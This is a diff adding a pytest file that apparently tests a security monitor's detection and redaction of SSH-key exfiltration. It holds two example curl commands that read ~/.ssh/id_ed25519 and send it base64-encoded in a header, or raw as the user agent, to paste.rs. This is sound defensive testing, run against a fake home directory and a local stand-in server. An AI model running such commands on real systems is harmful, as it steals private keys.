@@ -1,0 +1,57 @@
+"""Secrets an attacker puts on a command line never reach the output: a key sent base64-encoded
+in a request header, or as the user agent, to a paste site. The upload alerts, and no token of
+the fake key (its text, its base64, its hex) appears anywhere in the stream: not in the alert's
+process.args, command_line or chain, nor in exec telemetry."""
+
+import base64
+
+import pytest
+
+from harness import Scenario, get
+from harness.config import HTTPS_PORT
+
+from test_scenarios import run_attack
+
+RESOLVE = "--resolve paste.rs:8443:127.0.0.1"
+KEY = "$HOME/.ssh/id_ed25519"
+
+CASES = [
+    Scenario(
+        "key-base64-in-header-to-paste", "alert",
+        f'curl -sk {RESOLVE} -H "X-Trace: $(base64 -w0 {KEY})" -d ok https://paste.rs:8443/',
+        technique="T1567.003", domain="paste.rs", uploads=True),
+    Scenario(
+        "key-in-user-agent-to-paste", "alert",
+        f'curl -sk {RESOLVE} -A "$(cat {KEY})" -d ok https://paste.rs:8443/',
+        technique="T1567.003", domain="paste.rs", uploads=True),
+]
+
+
+def key_tokens(home):
+    """Every 20-byte window of the key's text, of its base64 and of its hex: a leak of any part
+    of the key in any of these encodings shows as one of them."""
+    data = (home.path / ".ssh/id_ed25519").read_bytes()
+    encodings = [data, base64.b64encode(data), data.hex().encode()]
+    tokens = set()
+    for encoded in encodings:
+        for line in encoded.split(b"\n"):
+            if line.startswith(b"-----"):
+                continue  # the PEM framing ("-----BEGIN OPENSSH PRIVATE KEY-----") is no secret
+            tokens |= {line[i:i + 20] for i in range(0, max(len(line) - 20, 0) + 1)}
+    return {t for t in tokens if len(t) == 20}
+
+
+@pytest.mark.parametrize("case", CASES, ids=lambda s: s.name)
+def test_key_on_command_line_is_redacted(case, monitor, standin, fake_home, tmp_path):
+    found = run_attack(case, monitor, standin, fake_home, tmp_path)
+    output = monitor.output.read_bytes()
+    leaked = sorted(t.decode(errors="replace") for t in key_tokens(fake_home) if t in output)
+    assert not leaked, f"{len(leaked)} key tokens in the output, e.g. {leaked[:3]}"
+    # The evidence stays recognisable: the alert names curl and the header or agent flag.
+    lines = [get(a, "process.command_line", "") for a in found]
+    assert any("[REDACTED]" in line and "paste.rs" in line for line in lines), lines
+    execs = [r for r in monitor.records()
+             if get(r, "event.action") == "exec" and get(r, "process.name") == "curl"
+             and "https://paste.rs:" in get(r, "process.command_line", "")]
+    assert execs, "the curl exec record"
+    assert all("[REDACTED]" in get(r, "process.command_line") for r in execs)
